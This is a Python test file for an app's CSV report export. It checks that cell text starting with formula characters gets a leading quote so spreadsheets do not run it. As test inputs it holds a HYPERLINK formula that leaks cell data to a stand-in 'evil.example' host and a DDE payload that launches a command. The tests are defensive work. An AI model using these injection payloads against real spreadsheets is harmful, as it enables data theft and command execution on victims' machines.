"""Contract section 1: text a party writes is exported in CSV so that no spreadsheet runs
it as a formula (a cell starting with `=`, `+`, `-`, `@`, tab or carriage return gets a
leading `'`); JSON keeps the text as written."""

from __future__ import annotations

import pytest

from app.costs.router import csv_cell
from tests.bookings.helpers import book, evening, next_weekday, world
from tests.conftest import ADMIN
from tests.costs.helpers import CSV, rows_of, span
from tests.factories import make_space

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Gym - A = east half", "Gym - A = east half"),
        ("", ""),
    ],
)
def test_a_text_cell_that_a_spreadsheet_would_run_is_prefixed(text, cell):
    assert csv_cell(text) == cell


@pytest.mark.parametrize(("value", "cell"), [(-500, -500), (0, 0), (None, "")])
def test_numbers_stay_numbers(value, cell):
    assert csv_cell(value) == cell


async def test_a_space_named_as_a_formula_is_plain_text_in_the_utilization_csv(client):
    w = await world(client)
    space = await make_space(client, w.site["id"], name=HYPERLINK)
    day = next_weekday(1)
    await book(client, w.group_key, evening(space["id"], day, "18:00", "19:00"))
    params = {**span(day), "group_by": "space"}
    r = await client.get("/v1/reports/utilization", params=params, headers={**ADMIN, **CSV})
    assert r.status_code == 200, r.text
    names = {row[0]: row[1] for row in rows_of(r.text)[1:]}
    assert names[str(space["id"])] == "'" + HYPERLINK
    js = await client.get("/v1/reports/utilization", params=params, headers=ADMIN)
    assert {row["key"]: row["name"] for row in js.json()["rows"]}[space["id"]] == HYPERLINK


async def test_a_party_named_as_a_formula_is_plain_text_in_the_utilization_csv(client):
    w = await world(client)
    r = await client.patch(
        f"/v1/parties/{w.group['id']}", json={"name": "@SUM(1+1)*cmd|' /C calc'!A0"},
        headers=ADMIN,
    )
    assert r.status_code == 200, r.text
    day = next_weekday(1)
    await book(client, w.group_key, evening(w.gym["id"], day, "18:00", "19:00"))
    params = {**span(day), "group_by": "party"}
    r = await client.get("/v1/reports/utilization", params=params, headers={**ADMIN, **CSV})
    names = {row[0]: row[1] for row in rows_of(r.text)[1:]}
    assert names[str(w.group["id"])] == "'@SUM(1+1)*cmd|' /C calc'!A0"
